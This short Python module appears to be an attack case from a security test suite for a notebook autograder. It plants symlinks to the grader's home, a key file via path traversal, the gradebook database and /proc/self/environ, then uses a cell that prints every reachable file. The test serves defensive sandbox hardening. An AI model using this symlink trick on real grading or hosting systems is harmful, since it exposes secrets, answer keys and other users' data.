"""Submits links to the grader's files, and a cell that reads them."""

CELL = """
import pathlib
for path in pathlib.Path().rglob("*"):
    print(path, path.is_file() and path.read_text())
"""


def attack(submission):
    """Link to files and folders, absolute and relative."""
    for name, target in (
        ("notes.txt", submission.home / "notes.txt"),
        ("home", submission.home),
        ("key.txt", "../../../key.txt"),
        ("course", submission.course),
        ("gradebook.db", submission.course / "gradebook.db"),
        ("environ", "/proc/self/environ"),
        ("loop", "loop"),
    ):
        (submission.folder / name).symlink_to(target)


SCORE = 9
REMARK = "link"
HUMAN = True
